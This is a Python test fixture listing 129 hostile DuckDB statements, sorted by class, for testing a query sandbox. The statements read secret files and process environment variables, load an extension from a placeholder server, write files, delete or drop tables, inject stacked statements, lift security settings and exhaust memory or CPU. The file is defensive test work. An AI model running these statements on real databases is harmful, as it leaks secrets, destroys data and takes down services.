"""129 statements that a query must never get away with, by class, and what the bare sandbox makes of each.

Words in capitals between at signs stand for a secret file, the snapshot's file, a folder that anybody may write to, and
the address of a server that counts who calls.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Final

SECRET_WORD: Final = "canary-5f1c"

_STATEMENTS: Final[dict[str, tuple[str, ...]]] = {
    "files": (
        "SELECT * FROM read_csv('@SECRET@')",
        "SELECT * FROM read_csv_auto('@SECRET@')",
        "SELECT content FROM read_text('@SECRET@')",
        "SELECT content FROM read_blob('@SECRET@')",
        "SELECT * FROM read_parquet('@SECRET@')",
        "SELECT * FROM read_json('@SECRET@')",
        "SELECT * FROM read_ndjson_objects('@SECRET@')",
        "SELECT * FROM sniff_csv('@SECRET@')",
        "SELECT * FROM glob('@FOLDER@/*')",
        "SELECT * FROM parquet_metadata('@SECRET@')",
        "SELECT * FROM '@SECRET@'",
        "SELECT * FROM '@FOLDER@/*.csv'",
        "SELECT * FROM read_duckdb('@DB@')",
        "SELECT content FROM read_blob('@DB@')",
        "SELECT user_id FROM users WHERE user_id IN (SELECT content FROM read_text('@SECRET@'))",
        "SELECT t.content FROM (SELECT 1) AS a, LATERAL (SELECT content FROM read_text('@SECRET@')) AS t",
        "DESCRIBE SELECT * FROM read_csv('@SECRET@')",
        "SELECT content FROM read_text('/proc/self/environ')",
        "SELECT (SELECT content FROM read_text('@SECRET@')) AS user_id",
        "SELECT content FROM read_text('file://@SECRET@')",
    ),
    "network": (
        "SELECT * FROM read_csv('@URL@/a.csv')",
        "SELECT * FROM '@URL@/a.parquet'",
        "SELECT * FROM read_text('s3://bucket/key')",
        "INSTALL httpfs",
        "LOAD httpfs",
        "INSTALL evil FROM '@URL@'",
        "UPDATE EXTENSIONS",
    ),
    "attach": (
        "ATTACH '@SECRET@' AS stolen",
        "ATTACH ':memory:' AS scratch",
        "ATTACH '@DB@' AS again",
        "USE memory",
        "DETACH snapshot",
    ),
    "copy": (
        "COPY (SELECT 'owned') TO '@FOLDER@/owned.csv'",
        "COPY (SELECT 'owned') TO '@DB@' (FORMAT csv, USE_TMP_FILE false)",
        "COPY (SELECT 'owned') TO '@DB@.wal' (FORMAT csv, USE_TMP_FILE false)",
        "COPY (SELECT 'owned') TO '@FOLDER@/owned.parquet' (FORMAT parquet)",
        "WITH x AS (COPY (SELECT 'owned') TO '@FOLDER@/owned.csv') SELECT 1 AS user_id",
        "WITH x AS (COPY (SELECT 'owned') TO '@DB@' (FORMAT csv, USE_TMP_FILE false)) SELECT 1 AS user_id",
        "COPY (SELECT 'owned') TO 'owned.csv'",
        "EXPORT DATABASE '@FOLDER@/owned'",
        "IMPORT DATABASE '@FOLDER@'",
    ),
    "changes": (
        "INSERT INTO snapshot.store.users SELECT * FROM snapshot.store.users",
        "UPDATE snapshot.store.users SET email = 'owned'",
        "DELETE FROM snapshot.store.users",
        "MERGE INTO snapshot.store.users AS u USING (SELECT 'ann' AS i) AS s ON user_id = i WHEN MATCHED THEN DELETE",
        "TRUNCATE snapshot.store.users",
        "ALTER TABLE snapshot.store.users ADD COLUMN owned INTEGER",
        "DROP VIEW snapshot.main.users",
        "CREATE TABLE snapshot.store.owned AS SELECT 1 AS a",
        "CREATE TEMP TABLE owned AS SELECT 1 AS a",
        "CREATE TEMP MACRO lower(x) AS 'owned'",
        "CREATE TEMP VIEW deals AS SELECT 'owned' AS deal_id",
        "VACUUM snapshot.store.users",
        "BEGIN TRANSACTION",
        "WITH x AS (DELETE FROM snapshot.store.users RETURNING *) SELECT * FROM x",
        "WITH x AS (INSERT INTO snapshot.store.users SELECT * FROM snapshot.store.users) SELECT 1 AS user_id",
        "SELECT 1; DROP VIEW snapshot.main.users",
        "SELECT 1) AS a; DELETE FROM snapshot.store.users; SELECT * FROM (SELECT 1",
        "SELECT 1 -- \x00\n; DELETE FROM snapshot.store.users",
    ),
    "settings": (
        "SET memory_limit = '64GB'",
        "SET GLOBAL threads = 64",
        "SET max_execution_time = 0",
        "SET lock_configuration = false",
        "SET enable_external_access = true",
        "SET disabled_filesystems = ''",
        "SET temp_directory = '@FOLDER@'",
        "RESET memory_limit",
        "RESET lock_configuration",
        "PRAGMA enable_profiling = 'json'",
        "PRAGMA profiling_output = '@FOLDER@/owned.json'",
        "CALL enable_logging(storage := 'file', storage_path := '@FOLDER@/owned')",
        "PRAGMA disable_optimizer",
    ),
    "python": (
        "SELECT * FROM request",
        "SELECT * FROM header",
        "SELECT * FROM pandas_scan(140000000000000)",
        "SELECT * FROM arrow_scan(140000000000000, 140000000000000, 140000000000000)",
        "SELECT * FROM python_map_function((SELECT 1), 'print')",
    ),
    "indirect": (
        "SELECT * FROM query('SELECT * FROM snapshot.store.users')",
        "SELECT * FROM query_table('users')",
        "SELECT * FROM query_table(['snapshot.store.users', 'snapshot.store.users'])",
        "SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT 42 AS a'))",
        "PREPARE owned AS SELECT 1",
        "EXECUTE nothing",
        "CALL pragma_version()",
    ),
    "tables": (
        "SELECT * FROM snapshot.store.users",
        'SELECT * FROM "store"."contacts"',
        "SELECT * FROM main.events",
        "WITH users AS (SELECT * FROM snapshot.store.users) SELECT * FROM users",
        "WITH contacts AS (SELECT * FROM contacts) SELECT * FROM contacts",
        "SUMMARIZE snapshot.store.users",
    ),
    "catalogue": (
        "SELECT * FROM duckdb_settings()",
        "SELECT * FROM duckdb_databases()",
        "SELECT * FROM duckdb_tables()",
        "SELECT * FROM duckdb_columns()",
        "SELECT * FROM duckdb_secrets()",
        "SELECT current_setting('memory_limit') AS a",
        "SELECT * FROM information_schema.tables",
        "SELECT * FROM sqlite_master",
        "SELECT * FROM pg_catalog.pg_class",
        "SHOW ALL TABLES",
        "PRAGMA database_list",
        "PRAGMA storage_info('snapshot.store.users')",
    ),
    "secrets": (
        "CREATE TEMPORARY SECRET owned (TYPE http, BEARER_TOKEN 'x')",
        "SELECT getenv('BETON_TEST_SECRET') AS a",
        "SET VARIABLE owned = 'x'",
        "SELECT getvariable('owned') AS a",
        "SELECT write_log('owned') AS a",
        "SELECT * FROM duckdb_logs",
    ),
    "bombs": (
        "SELECT count(*) AS n FROM range(1000000000) AS a, range(1000000000) AS b",
        "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT count(*) AS n FROM t",
        "SELECT count(*) AS n FROM range(1000000000000)",
        "SELECT length(repeat('x', 2000000000)) AS n",
        "SELECT length(lpad('a', 2000000000, 'b')) AS n",
        "SELECT length(format('{:>2000000000}', 1)) AS n",
        "SELECT len(range(1000000000)) AS n",
        "SELECT list(i) AS l FROM range(1000000000) AS t(i)",
        "SELECT count(DISTINCT hash(i)) AS n FROM range(1000000000) AS t(i)",
        "SELECT i FROM range(1000000000) AS t(i) ORDER BY hash(i)",
        "WITH RECURSIVE t(s) AS (SELECT 'x' UNION ALL SELECT s || s FROM t) SELECT max(length(s)) AS n FROM t",
        "SELECT string_agg(CAST(i AS VARCHAR), ',') AS s FROM range(1000000000) AS t(i)",
        "SELECT count(*) AS n FROM range(1000000000) AS t(i) WHERE regexp_matches(lpad(i::TEXT, 999, 'a'), '(a|a)*b')",
        "SELECT sleep_ms(60000) AS a",
        "SELECT pg_sleep(60) AS a",
        "SELECT " + "(" * 9000 + "1" + ")" * 9000 + " AS a",
        "SELECT " + "- " * 9000 + "1 AS a",
        "SELECT " + "NOT " * 4000 + "TRUE AS a",
        "SELECT * FROM " + "(SELECT * FROM " * 1200 + "range(1)" + ")" * 1200,
        "SELECT 1 AS a" + " UNION SELECT 1" * 5000,
        "SELECT 1 AS a WHERE 1 IN (" + ", ".join(map(str, range(200_000))) + ")",
    ),
}  # fmt: skip

# What is heavy but has a use in a signal: the check lets it pass, the limits end it.
_HEAVY: Final = frozenset(f"bombs-{number:02}" for number in (1, 2, 3, 5, 6, 7, 8, 9, 10, 11, 12, 13))


@dataclass(frozen=True)
class Attack:
    """One statement; ``name`` is its class and its number within the class."""

    name: str
    sql: str

    @property
    def is_heavy_only(self) -> bool:
        return self.name in _HEAVY


ATTACKS: Final = tuple(
    Attack(f"{kind}-{number:02}", sql)
    for kind, statements in _STATEMENTS.items()
    for number, sql in enumerate(statements, 1)
)
